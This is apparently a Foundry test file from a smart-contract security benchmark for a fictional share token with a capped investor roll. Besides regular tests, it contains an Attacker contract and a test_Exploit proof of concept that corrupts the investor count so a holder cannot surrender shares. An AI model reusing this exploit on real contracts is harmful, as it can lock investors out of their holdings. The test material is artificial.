// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.19;

// assay-canary-95e89204-481b-473f-8312-2f434653f28e

import "./QuernMillShares.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Wallet {
    function send(QuernMillShares shares, address to, uint256 value) external {
        shares.transfer(to, value);
    }

    function approve(QuernMillShares shares, address spender, uint256 value) external {
        shares.approve(spender, value);
    }

    function surrender(QuernMillShares shares, uint256 value) external {
        shares.surrender(value);
    }

    function offer(InvestorRoll roll, address wallet) external {
        roll.offerLink(wallet);
    }

    function accept(InvestorRoll roll, uint256 investor) external {
        roll.acceptLink(investor);
    }
}

/// An investor with one share.
contract Attacker {
    Wallet private second;

    function run(QuernMillShares shares) external {
        InvestorRoll roll = shares.roll();
        second = new Wallet();
        roll.offerLink(address(second));
        second.accept(roll, roll.investorOf(address(this)));
        for (uint256 i = 0; i < 3 && shares.investorCount() > 0; ++i) {
            if (i % 2 == 0) shares.transfer(address(second), 1);
            else second.send(shares, address(this), 1);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    InvestorRoll public roll;
    QuernMillShares public shares;
    Wallet public ada;
    Wallet public ada2;
    Wallet public bo;
    Wallet public cy;
    Attacker public nuisance;

    function setUp() public {
        vm.warp(1_760_000_000);
        roll = new InvestorRoll();
        shares = new QuernMillShares(roll, 3);
        ada = new Wallet();
        ada2 = new Wallet();
        bo = new Wallet();
        cy = new Wallet();
        nuisance = new Attacker();
        roll.enrol(address(ada));
        roll.enrol(address(bo));
        roll.enrol(address(cy));
        roll.enrol(address(nuisance));
        shares.issue(address(ada), 600);
        shares.issue(address(bo), 399);
        shares.issue(address(nuisance), 1);
        vm.warp(1_760_000_000 + 100 days);
    }

    // Ada gives all of her shares back to the company.
    function leaveCompany() external {
        ada.surrender(shares, 600);
    }

    function test_Regular() public {
        require(shares.investorCount() == 3 && shares.placesLeft() == 0, "full");
        try ada.send(shares, address(cy), 100) {
            revert("beyond the cap");
        } catch {}
        try ada.send(shares, address(ada2), 100) {
            revert("not on the roll");
        } catch {}

        // Part of the shares goes to another wallet of the same investor.
        ada.offer(roll, address(ada2));
        ada2.accept(roll, roll.investorOf(address(ada)));
        ada.send(shares, address(ada2), 100);
        require(shares.investorCount() == 3 && shares.sharesOf(address(ada)) == 600, "one investor");
        require(shares.balanceOf(address(ada2)) == 100, "in the second wallet");

        // Bo sells out to Ada, Cy takes the place.
        bo.approve(shares, address(this), 399);
        shares.transferFrom(address(bo), address(ada), 399);
        require(shares.investorCount() == 2, "one has left");
        ada.send(shares, address(cy), 899);
        require(shares.investorCount() == 3 && shares.sharesOf(address(ada)) == 100, "one has come");

        // An issue locks sales up; suspension stops everything.
        shares.issue(address(cy), 1);
        try cy.send(shares, address(ada), 1) {
            revert("locked up");
        } catch {}
        shares.setSuspended(roll.investorOf(address(ada)), true);
        try ada2.surrender(shares, 100) {
            revert("suspended");
        } catch {}
        shares.setSuspended(roll.investorOf(address(ada)), false);
        ada2.surrender(shares, 100);
        require(shares.investorCount() == 2 && shares.totalSupply() == 901, "surrendered");
        shares.setCap(2);
        try shares.setCap(1) {
            revert("cap too low");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Shares are issued, suspended and capped by the company.
    function test_RefusesStrangers() public {
        refuses(address(ada), "Shares: company only");
        shares.issue(address(ada), 1);
        refuses(address(ada), "Shares: company only");
        shares.setSuspended(1, true);
        refuses(address(ada), "Shares: company only");
        shares.setCap(9);
    }

    /// Shares that are none, wallets that are not on the roll, investors who are suspended.
    function test_RefusesShares() public {
        vm.expectRevert("Shares: none");
        shares.issue(address(ada), 0);
        refuses(address(ada), "Shares: refused");
        shares.surrender(0);
        refuses(address(ada), "Shares: none");
        shares.transfer(address(bo), 0);
        refuses(address(ada), "Shares: not on the roll");
        shares.transfer(address(ada2), 1);
        shares.setSuspended(roll.investorOf(address(ada)), true);
        refuses(address(ada), "Shares: suspended");
        shares.transfer(address(bo), 1);
        refuses(address(bo), "Shares: suspended");
        shares.transfer(address(ada), 1);
    }

    function exploit() public {
        nuisance.run(shares);
    }

    function test_Exploit() public {
        exploit();
        require(shares.investorCount() == 0, "count as it should be");
        try this.leaveCompany() {
            revert("left");
        } catch {}
    }

    function target() public view returns (address) {
        return address(shares);
    }

    function attacker() public view returns (address) {
        return address(nuisance);
    }
}
